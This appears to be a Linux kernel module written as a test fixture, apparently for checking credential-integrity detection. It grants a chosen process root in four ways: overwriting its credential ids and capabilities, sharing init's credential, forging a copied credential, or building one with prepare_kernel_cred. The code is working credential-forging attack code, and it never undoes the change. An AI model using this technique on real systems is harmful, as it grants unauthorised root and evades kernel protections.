// SPDX-License-Identifier: GPL-2.0
/* Test fixture: makes a process root without asking, in one of four ways. */
#include <linux/cred.h>
#include <linux/mm.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include "attacker.h"

static int pid;
static int mode;
static unsigned long init;
module_param(pid, int, 0);
module_param(mode, int, 0);
module_param(init, ulong, 0);

/* 0: the ids are overwritten; 1: init's credential is shared; 2: a copy in memory of our own;
 * 3: a new credential of root, as good as any. */
static int __init forge_cred_init(void)
{
	struct task_struct *task = get_pid_task(find_vpid(pid), PIDTYPE_PID);
	struct cred *cred;

	if (!task)
		return -ESRCH;
	cred = (struct cred *)task->real_cred;
	if (mode == 1) {
		cred = (struct cred *)init;
		atomic_add(2, (atomic_t *)&cred->usage);
	} else if (mode == 2) {
		cred = (struct cred *)__get_free_page(GFP_KERNEL);
		if (cred)
			memcpy(cred, task->real_cred, sizeof(*cred));
	} else if (mode == 3) {
		cred = prepare_kernel_cred(&init_task);
	}
	if (!cred) {
		put_task_struct(task);
		return -EINVAL;
	}
	if (mode == 0 || mode == 2) {
		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
		cred->cap_effective = cred->cap_permitted = init_task.real_cred->cap_permitted;
	}
	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
	put_task_struct(task);
	return 0;
}

/* What was done stays. */
static void __exit forge_cred_exit(void)
{
}

module_init(forge_cred_init);
module_exit(forge_cred_exit);
